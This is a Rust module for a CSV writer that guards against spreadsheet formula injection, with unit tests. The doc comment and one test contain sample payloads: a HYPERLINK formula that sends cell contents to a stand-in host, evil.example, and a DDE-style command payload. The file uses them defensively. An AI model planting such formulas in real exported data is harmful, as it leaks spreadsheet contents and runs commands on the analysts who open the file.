//! The one way this product writes CSV: every cell is quoted, and a cell that a spreadsheet
//! would read as a formula (OWASP CSV injection: it starts with `=`, `+`, `-`, `@`, tab or
//! carriage return) gets a leading `'`. Any CSV writer in the product goes through [`Writer`].
//!
//! Identity data (logins, display names, ids, role names) comes from identity providers and
//! is hostile: a display name `=HYPERLINK("http://evil.example/?x="&A1,"click")` must reach
//! the analyst's spreadsheet as text. The rule applies to every column alike, whoever filled
//! it, with one exception that keeps numbers numbers: a cell that is entirely a decimal
//! number (`-3`, `+1.5`) is written as it is, since a spreadsheet reads it as that number
//! and nothing else. `-3+cmd|' /C calc'!A0` is not a number and is neutralised.

use std::borrow::Cow;
use std::io::Write;

/// Characters that make a spreadsheet treat a cell as a formula (OWASP's list).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it must be written: unchanged, or with a leading `'` when it could run as a
/// formula.
pub fn cell(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some(c) if TRIGGERS.contains(&c) && !is_plain_number(s) => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// An optional sign, digits, and at most one decimal point with digits on some side.
fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['-', '+']).unwrap_or(s);
    let (int, frac) = body.split_once('.').unwrap_or((body, ""));
    (!int.is_empty() || !frac.is_empty())
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// A CSV writer that quotes every cell and neutralises formula cells.
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> Writer<W> {
    pub fn new(w: W) -> Writer<W> {
        Writer {
            inner: csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Always)
                .from_writer(w),
        }
    }

    /// Writes one record; every cell passes through [`cell`].
    pub fn write_record<'a, I>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = &'a str>,
    {
        self.inner
            .write_record(record.into_iter().map(|c| cell(c).into_owned()))
    }

    /// Flushes and returns the underlying writer.
    pub fn into_inner(self) -> Result<W, String> {
        self.inner.into_inner().map_err(|e| e.error().to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv_of(cells: &[&str]) -> String {
        let mut w = Writer::new(Vec::new());
        w.write_record(cells.iter().copied()).unwrap();
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn each_trigger_character_is_neutralised() {
        for (input, want) in [
            ("=1+2", "\"'=1+2\"\n"),
            ("+1+2", "\"'+1+2\"\n"),
            ("-1+2", "\"'-1+2\"\n"),
            ("@SUM(A1:A2)", "\"'@SUM(A1:A2)\"\n"),
            ("\tx", "\"'\tx\"\n"),
            ("\rx", "\"'\rx\"\n"),
        ] {
            assert_eq!(csv_of(&[input]), want, "{input:?}");
        }
    }

    #[test]
    fn the_issue_payload_stays_text_in_one_cell() {
        let payload = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
        let out = csv_of(&["u-1", payload]);
        assert_eq!(
            out,
            "\"u-1\",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"\n"
        );
        let doc = format!("a,b\n{out}");
        let mut r = csv::Reader::from_reader(doc.as_bytes());
        let rec = r.records().next().unwrap().unwrap();
        assert_eq!(&rec[1], format!("'{payload}"));
    }

    #[test]
    fn plain_numbers_stay_numbers_in_every_column() {
        // Negative and signed numbers are not formulas: written as they are, whether the
        // exporter computed them (days) or a provider sent them (a display name "-3").
        for n in ["-3", "+7", "-0.5", "12", "-.5", "3."] {
            assert_eq!(cell(n), n, "{n}");
        }
        for not_a_number in ["-", "+", "-.", "-3+1", "-1e5", "--3", "-3 ", "+-1"] {
            assert_eq!(cell(not_a_number), format!("'{not_a_number}"));
        }
    }

    #[test]
    fn ordinary_text_is_untouched() {
        for s in [
            "alice@example.com",
            "",
            "Alice = admin",
            "a-b",
            " =x",
            "'quoted",
        ] {
            assert_eq!(cell(s), s);
        }
    }
}
